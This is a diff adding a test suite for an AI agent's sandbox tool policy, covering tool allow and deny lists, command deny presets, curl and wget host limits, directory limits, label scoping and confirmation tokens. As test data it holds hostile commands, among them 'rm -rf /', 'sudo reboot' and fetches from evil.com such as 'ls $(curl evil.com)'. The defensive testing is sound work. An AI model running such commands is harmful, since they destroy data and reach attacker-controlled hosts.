@@ -0,0 +1,176 @@
+import { describe, expect, test } from "vitest";
+import {
+  CommandPolicySchema,
+  confirmationToken,
+  evaluateCommand,
+  evaluatePolicy,
+  PolicyContext,
+  PolicySchema,
+  verifyConfirmationToken
+} from "@/lib/policy";
+
+const NOW = Date.UTC(2025, 0, 1);
+
+const context = (labels: Record<string, Record<string, string>> = {}): PolicyContext => ({
+  sandboxLabels: async sandboxId => labels[sandboxId],
+  secret: "test-secret",
+  now: NOW
+});
+
+const policy = (value: unknown) => PolicySchema.parse(value);
+const commands = (value: unknown) => CommandPolicySchema.parse(value);
+
+describe("evaluatePolicy", () => {
+  test("allows every tool without rules", async () => {
+    expect(await evaluatePolicy(policy({}), "deleteSandbox", { sandboxId: "a" }, context()))
+      .toEqual({ allowed: true, args: { sandboxId: "a" } });
+  });
+
+  test("denies tools by name and category, before the allow list", async () => {
+    const rules = policy({ allow: ["*"], deny: ["destructive"] });
+    expect(await evaluatePolicy(rules, "deleteVolume", { volumeId: "a" }, context()))
+      .toMatchObject({ allowed: false, code: "TOOL_DENIED" });
+    expect(await evaluatePolicy(rules, "getVolume", { volumeId: "a" }, context()))
+      .toMatchObject({ allowed: true });
+  });
+
+  test("only allows tools in the allow list when it is set", async () => {
+    const rules = policy({ allow: ["sandboxes", "executeCommand"] });
+    expect(await evaluatePolicy(rules, "listSandboxes", {}, context())).toMatchObject({ allowed: true });
+    expect(await evaluatePolicy(rules, "executeCommand", { command: "ls" }, context())).toMatchObject({ allowed: true });
+    expect(await evaluatePolicy(rules, "uploadFile", {}, context()))
+      .toMatchObject({ allowed: false, code: "TOOL_NOT_ALLOWED" });
+  });
+
+  test("checks the commands of command tools", async () => {
+    const rules = policy({ commands: { deny: ["sudo"] } });
+    expect(await evaluatePolicy(rules, "executeSessionCommand", { command: "sudo ls" }, context()))
+      .toMatchObject({ allowed: false, code: "COMMAND_DENIED", details: { rule: "sudo" } });
+    expect(await evaluatePolicy(rules, "executeCommand", { command: "ls" }, context())).toMatchObject({ allowed: true });
+  });
+
+  test("denies running code while commands are restricted, unless code is allowed", async () => {
+    const args = { sandboxId: "a", code: "import os\nos.system('sudo ls')" };
+    expect(await evaluatePolicy(policy({ commands: { deny: ["sudo"] } }), "runCode", args, context()))
+      .toMatchObject({ allowed: false, code: "COMMAND_DENIED", details: { rule: "allowCode" } });
+    expect(await evaluatePolicy(policy({ commands: { deny: ["sudo"], allowCode: true } }), "runCode", args, context()))
+      .toMatchObject({ allowed: true });
+    expect(await evaluatePolicy(policy({}), "runCode", args, context())).toMatchObject({ allowed: true });
+  });
+
+  describe("sandbox labels", () => {
+    const rules = policy({ sandboxLabels: { team: "agents" } });
+    const labelled = context({ mine: { team: "agents", owner: "me" }, theirs: { team: "humans" } });
+
+    test("rejects sandboxes without the required labels", async () => {
+      expect(await evaluatePolicy(rules, "getSandbox", { sandboxId: "mine" }, labelled)).toMatchObject({ allowed: true });
+      expect(await evaluatePolicy(rules, "getSandbox", { sandboxId: "theirs" }, labelled))
+        .toMatchObject({ allowed: false, code: "SANDBOX_NOT_ALLOWED" });
+      expect(await evaluatePolicy(rules, "getSandbox", { sandboxId: "missing" }, labelled))
+        .toMatchObject({ allowed: false, code: "SANDBOX_NOT_ALLOWED" });
+    });
+
+    test("adds the labels to created sandboxes", async () => {
+      expect(await evaluatePolicy(rules, "createSandbox", { labels: { team: "other", purpose: "test" } }, labelled))
+        .toEqual({ allowed: true, args: { labels: { team: "agents", purpose: "test" } } });
+    });
+
+    test("keeps the labels on label updates", async () => {
+      expect(await evaluatePolicy(rules, "setSandboxLabels", { sandboxId: "mine", labels: {}, removeLabels: ["team", "owner"] }, labelled))
+        .toEqual({ allowed: true, args: { sandboxId: "mine", labels: { team: "agents" }, removeLabels: ["owner"] } });
+    });
+
+    test("filters listed and bulk changed sandboxes by the labels", async () => {
+      expect(await evaluatePolicy(rules, "listSandboxes", { labels: '{"purpose":"test"}' }, labelled))
+        .toEqual({ allowed: true, args: { labels: '{"purpose":"test","team":"agents"}' } });
+      expect(await evaluatePolicy(rules, "bulkStopSandboxes", { sandboxIds: ["mine"] }, labelled))
+        .toEqual({ allowed: true, args: { sandboxIds: ["mine"], labels: '{"team":"agents"}' } });
+      expect(await evaluatePolicy(rules, "bulkStopSandboxes", {}, labelled)).toEqual({ allowed: true, args: {} });
+      expect(await evaluatePolicy(rules, "listSandboxes", { labels: "team" }, labelled))
+        .toMatchObject({ allowed: false, code: "BAD_REQUEST" });
+    });
+  });
+
+  describe("confirmation", () => {
+    const rules = policy({ requireConfirmation: ["deleteSandbox"] });
+
+    test("returns a confirm token on the first call, and runs the call with it", async () => {
+      const first = await evaluatePolicy(rules, "deleteSandbox", { sandboxId: "a", force: true }, context());
+      expect(first).toMatchObject({ allowed: false, code: "CONFIRMATION_REQUIRED" });
+
+      const token = first.allowed ? undefined : first.details?.confirmToken;
+      expect(await evaluatePolicy(rules, "deleteSandbox", { sandboxId: "a", force: true, confirm: token }, context()))
+        .toEqual({ allowed: true, args: { sandboxId: "a", force: true } });
+    });
+
+    test("rejects tokens issued for other arguments", async () => {
+      const token = confirmationToken("test-secret", "deleteSandbox", { sandboxId: "a", force: true }, NOW);
+      expect(await evaluatePolicy(rules, "deleteSandbox", { sandboxId: "b", force: true, confirm: token }, context()))
+        .toMatchObject({ allowed: false, code: "INVALID_CONFIRMATION" });
+    });
+  });
+});
+
+describe("evaluateCommand", () => {
+  test("matches deny presets anywhere in the command line", () => {
+    const rules = commands({ deny: ["sudo", "rm-rf-root"] });
+    expect(evaluateCommand(rules, "ls && sudo reboot")).toEqual({ rule: "sudo", reason: "the command matches a denied pattern" });
+    expect(evaluateCommand(rules, "rm -rf /")).toMatchObject({ rule: "rm-rf-root" });
+    expect(evaluateCommand(rules, "rm -rf /tmp/build")).toBeUndefined();
+    expect(evaluateCommand(rules, "echo pseudo")).toBeUndefined();
+  });
+
+  test("only allows commands matching the allow rules when they are set", () => {
+    const rules = commands({ allow: [{ name: "npm", pattern: "^npm " }] });
+    expect(evaluateCommand(rules, "npm test")).toBeUndefined();
+    expect(evaluateCommand(rules, "make test")).toMatchObject({ rule: "allow" });
+  });
+
+  test("limits the hosts curl and wget reach", () => {
+    const rules = commands({ allowedHosts: ["*.example.com", "localhost"] });
+    expect(evaluateCommand(rules, "curl -H 'Host: evil.com' https://api.example.com/v1")).toBeUndefined();
+    expect(evaluateCommand(rules, "curl localhost:3000/health")).toBeUndefined();
+    expect(evaluateCommand(rules, "echo start; wget -O out.txt https://evil.com/file"))
+      .toEqual({ rule: "allowedHosts", reason: "evil.com is not an allowed host" });
+    expect(evaluateCommand(rules, "ls $(curl evil.com)")).toMatchObject({ rule: "allowedHosts" });
+  });
+
+  test("limits the working directory and cd targets", () => {
+    const rules = commands({ allowedCwds: ["/home/daytona/project/"] });
+    expect(evaluateCommand(rules, "ls", "/home/daytona/project/src")).toBeUndefined();
+    expect(evaluateCommand(rules, "cd src && ls", "/home/daytona/project")).toBeUndefined();
+    expect(evaluateCommand(rules, "ls", "/home/daytona/projects")).toMatchObject({ rule: "allowedCwds" });
+    expect(evaluateCommand(rules, "ls", "project")).toMatchObject({ rule: "allowedCwds" });
+    expect(evaluateCommand(rules, "cd ../.. && ls")).toMatchObject({ rule: "allowedCwds" });
+    expect(evaluateCommand(rules, "cd ~")).toMatchObject({ rule: "allowedCwds" });
+    expect(evaluateCommand(rules, "cd")).toEqual({ rule: "allowedCwds", reason: "cd leaves the allowed directories" });
+  });
+});
+
+describe("confirmation tokens", () => {
+  const args = { sandboxId: "a", force: true };
+
+  test("are valid for the same tool and arguments in any key order", () => {
+    const token = confirmationToken("secret", "deleteSandbox", args, NOW);
+    expect(verifyConfirmationToken("secret", "deleteSandbox", { force: true, sandboxId: "a" }, token, NOW)).toBe(true);
+  });
+
+  test("are bound to the secret, tool and arguments", () => {
+    const token = confirmationToken("secret", "deleteSandbox", args, NOW);
+    expect(verifyConfirmationToken("other", "deleteSandbox", args, token, NOW)).toBe(false);
+    expect(verifyConfirmationToken("secret", "deleteVolume", args, token, NOW)).toBe(false);
+    expect(verifyConfirmationToken("secret", "deleteSandbox", { ...args, force: false }, token, NOW)).toBe(false);
+  });
+
+  test("expire after five minutes", () => {
+    const token = confirmationToken("secret", "deleteSandbox", args, NOW);
+    expect(verifyConfirmationToken("secret", "deleteSandbox", args, token, NOW + 5 * 60 * 1000)).toBe(true);
+    expect(verifyConfirmationToken("secret", "deleteSandbox", args, token, NOW + 5 * 60 * 1000 + 1)).toBe(false);
+  });
+
+  test("reject malformed tokens", () => {
+    for (const token of ["", "abc", `${NOW + 1000}`, `${NOW + 1000}.forged`]) {
+      expect(verifyConfirmationToken("secret", "deleteSandbox", args, token, NOW)).toBe(false);
+    }
+  });
+});